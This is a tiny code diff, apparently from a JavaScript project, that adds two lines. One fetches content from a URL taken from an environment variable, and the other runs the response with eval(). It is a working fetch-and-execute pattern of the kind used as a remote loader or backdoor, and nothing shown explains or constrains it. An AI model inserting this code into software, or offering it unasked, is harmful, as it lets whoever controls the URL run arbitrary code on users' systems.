@@ -1,0 +1,2 @@
+const response = await fetch(process.env.URL);
+eval(await response.text());
